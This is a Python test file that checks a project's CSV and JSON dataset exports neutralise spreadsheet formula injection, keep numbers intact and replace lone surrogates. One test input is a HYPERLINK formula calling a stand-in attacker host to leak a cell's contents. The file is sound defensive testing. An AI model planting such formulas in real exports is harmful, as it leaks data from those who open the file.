"""The dataset exports with hostile values: formulas in CSV, numbers, lone surrogates.

A spreadsheet runs a CSV text cell that starts with = + - @ (or a tab or carriage return, which
it trims first) as a formula: text cells get a leading apostrophe in CSV, numbers never do, and
the JSON keeps the text as it was. No export may contain a lone UTF-16 surrogate, which UTF-8
cannot encode.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import UTC, datetime
from decimal import Decimal
from typing import Any

import pytest

from arena_core.analysis.figures import Rules
from arena_core.dataset.boards import build
from arena_core.dataset.exports import FORMULA_TRIGGERS, cell, to_csv, to_json
from arena_core.domain.lineup import AgentKind
from arena_core.domain.portfolio import PortfolioSnapshot, Position, TradeKind
from arena_core.site.live import live_values
from arena_core.site.render import LIVE_AGENT_FIGURES, LIVE_POSITION_FIGURES, SiteRenderer
from arena_core.site.views import LeaderboardData

TRIGGERS = ("=", "+", "-", "@", "\t", "\r")  # the leading characters this module tests
PAGE_TRIGGERS = ("=", "+", "-", "@", "＝", "＋", "－", "＠")  # what the data page lists
NOW = datetime(2026, 3, 1, 0, 10, tzinfo=UTC)


def csv_rows(data: bytes) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def decision(reasoning: str, **extra: Any) -> dict[str, Any]:
    return {"decision_id": "c1.a.w001", "reasoning": reasoning, "week": 1, **extra}


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_a_text_cell_starting_a_formula_is_prefixed_with_an_apostrophe(trigger: str) -> None:
    reasoning = f'{trigger}HYPERLINK("http://evil.example/?"&A1,"click")'
    (row,) = csv_rows(to_csv("decisions", [decision(reasoning)]))
    assert row["reasoning"] == f"'{reasoning}"
    assert row["decision_id"] == "c1.a.w001"  # other text is left as it is


@pytest.mark.parametrize("trigger", TRIGGERS)
def test_the_json_keeps_the_raw_text(trigger: str) -> None:
    reasoning = f"{trigger}1+1"
    (row,) = json.loads(to_json("decisions", [decision(reasoning)]))
    assert row["reasoning"] == reasoning


def test_questions_and_outcome_names_are_neutralised_too() -> None:
    trade = {"trade_id": "t1", "side": "-1 goal", "market_id": "@m", "kind": TradeKind.BUY}
    (row,) = csv_rows(to_csv("trades", [trade]))
    assert (row["side"], row["market_id"], row["kind"]) == ("'-1 goal", "'@m", "buy")


def test_text_with_a_trigger_elsewhere_is_unchanged() -> None:
    (row,) = csv_rows(to_csv("decisions", [decision("a = b - c @ d")]))
    assert row["reasoning"] == "a = b - c @ d"


def test_negative_numbers_stay_numbers() -> None:
    agent = {
        "agent_id": "c1.a",
        "total_pnl": Decimal("-12.50"),
        "total_pnl_pct": Decimal("-0.1250"),
        "positions_value": Decimal("-3.5E+2"),
        "resolved_bets": -1,
        "brier": None,
        "kind": AgentKind.LLM,
        "snapshot_at": NOW,
    }
    (row,) = csv_rows(to_csv("agents", [agent]))
    assert row["total_pnl"] == "-12.50"
    assert row["total_pnl_pct"] == "-0.1250"
    assert row["positions_value"] == "-350.00"  # fixed places, never exponent notation
    assert row["resolved_bets"] == "-1"
    assert row["brier"] == ""
    assert row["kind"] == "llm"
    assert row["snapshot_at"] == "2026-03-01T00:10:00Z"
    (raw,) = json.loads(to_json("agents", [agent]))
    assert raw["total_pnl"] == "-12.50"


def test_booleans_are_lowercase_in_csv_and_json_booleans() -> None:
    (row,) = csv_rows(to_csv("decisions", [decision("ok", fallback=True)]))
    assert row["fallback"] == "true"
    (raw,) = json.loads(to_json("decisions", [decision("ok", fallback=True)]))
    assert raw["fallback"] is True


def test_a_lone_surrogate_never_reaches_an_export() -> None:
    hostile = "half an emoji \ud83d, then =SUM(A1)"
    assert cell(hostile) == "half an emoji \ufffd, then =SUM(A1)"
    (row,) = csv_rows(to_csv("decisions", [decision(hostile)]))
    assert row["reasoning"] == "half an emoji \ufffd, then =SUM(A1)"
    (raw,) = json.loads(to_json("decisions", [decision("\ud83d")]))
    assert raw["reasoning"] == "\ufffd"
    (row,) = csv_rows(to_csv("decisions", [decision("=\ud83d")]))
    assert row["reasoning"] == "'=\ufffd"


def _empty_board() -> LeaderboardData:
    nothing = {
        name: to_csv(name, [])
        for name in ("families", "forecasts", "family_returns", "position_returns")
    }
    return LeaderboardData("v1", [], [], {}, build(nothing, "v1", Rules()), Rules())


def test_the_data_page_states_the_rule() -> None:
    assert FORMULA_TRIGGERS == PAGE_TRIGGERS  # the page below lists them: change both together
    page = SiteRenderer(NOW).global_pages([_empty_board()], [])["data/index.html"].decode()
    text = " ".join(page.split())
    for character in PAGE_TRIGGERS:
        assert f"<code>{character}</code>" in text
    assert "tab" in text and "carriage return" in text and "leading blanks" in text
    assert "apostrophe" in text
    assert "JSON files keep the raw text" in text


def test_the_data_page_names_every_figure_of_the_live_files() -> None:
    """``data/live/<cohort_id>.json`` is described on the data page, figure by figure, as the
    files are written (an agent's and a position's)."""
    snapshot = PortfolioSnapshot(
        agent_id="c.a", cohort_id="c", family_id="a", taken_at=datetime(2026, 1, 1, tzinfo=UTC),
        cash=Decimal(1), positions_value=Decimal(0), total_value=Decimal(1),
        total_pnl=Decimal(0), total_pnl_pct=Decimal(0), brier=None, resolved_bets=0,
        open_positions=0,
    )  # fmt: skip
    position = Position(
        position_id="p1", agent_id="c.a", cohort_id="c", market_id="m", side="YES",
        shares=Decimal(2), cost_basis=Decimal(1), opened_at=snapshot.taken_at, opened_by="t",
    )  # fmt: skip
    values = live_values({"c.a": snapshot}, {"c.a": [position]}, {})
    assert {key.split("/")[1] for key in values if key.startswith("c.a/")} == set(
        LIVE_AGENT_FIGURES
    )
    assert {key.split("/")[1] for key in values if key.startswith("p1/")} == set(
        LIVE_POSITION_FIGURES
    )
    text = SiteRenderer(NOW).global_pages([_empty_board()], [])["data/index.html"].decode()
    assert "live/&lt;cohort_id&gt;.json" in text
    assert all(name in text for name in (*LIVE_AGENT_FIGURES, *LIVE_POSITION_FIGURES))
